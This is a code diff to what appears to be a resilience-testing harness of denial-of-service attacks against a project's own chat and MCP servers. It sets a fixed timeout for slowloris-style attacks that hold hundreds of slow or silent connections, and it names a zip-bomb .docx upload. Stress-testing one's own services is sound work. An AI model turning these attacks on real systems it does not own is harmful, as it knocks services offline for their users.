@@ -15,6 +15,8 @@ import httpx2
 from attack_tools import Target, ask, connection, entries, head, login, question, raw
 
 FLOODER = "flooder"
+# Longer than a head or a body may take.
+PATIENCE = 18.0
 MANY = httpx2.Limits(max_connections=None, max_keepalive_connections=None)
 Attack = Callable[[Target, float], Awaitable[None]]
 ATTACKS: dict[str, Attack] = {}
@@ -52,7 +54,7 @@ async def flood(
 
 
 async def hold(target: Target, port: int, count: int, seconds: float, sent: bytes, drip: bytes) -> None:
-    """Open so many connections, send the beginning, then a byte a second; note who is still there at the end."""
+    """Open so many connections, send the beginning and a drip a second; note who is there at the end."""
 
     async def one() -> None:
         try:
@@ -146,22 +148,22 @@ async def wrong_logins(target: Target, seconds: float) -> None:
 
 @attack("300 heads, a byte a second")
 async def slow_heads(target: Target, seconds: float) -> None:
-    await hold(target, target.chat_port, 300, seconds, b"POST /chatkit HTTP/1.1\r\nhost: loc", b"a")
+    await hold(target, target.chat_port, 300, PATIENCE, b"POST /chatkit HTTP/1.1\r\nhost: loc", b"a")
 
 
 @attack("300 heads to the MCP server, a byte a second")
 async def slow_heads_of_mcp(target: Target, seconds: float) -> None:
-    await hold(target, target.mcp_port, 300, seconds, b"POST /mcp HTTP/1.1\r\nhost: loc", b"a")
+    await hold(target, target.mcp_port, 300, PATIENCE, b"POST /mcp HTTP/1.1\r\nhost: loc", b"a")
 
 
 @attack("300 bodies, a byte a second")
 async def slow_bodies(target: Target, seconds: float) -> None:
-    await hold(target, target.chat_port, 300, seconds, head("/chatkit", FLOODER, 100_000), b"{")
+    await hold(target, target.chat_port, 300, PATIENCE, head("/chatkit", FLOODER, 100_000), b"{")
 
 
 @attack("1200 connections that say nothing")
 async def silent_connections(target: Target, seconds: float) -> None:
-    await hold(target, target.chat_port, 1200, seconds, b"", b"")
+    await hold(target, target.chat_port, 1200, PATIENCE, b"", b"")
 
 
 @attack("a ZIP of 200 000 entries as .docx, 8 times")
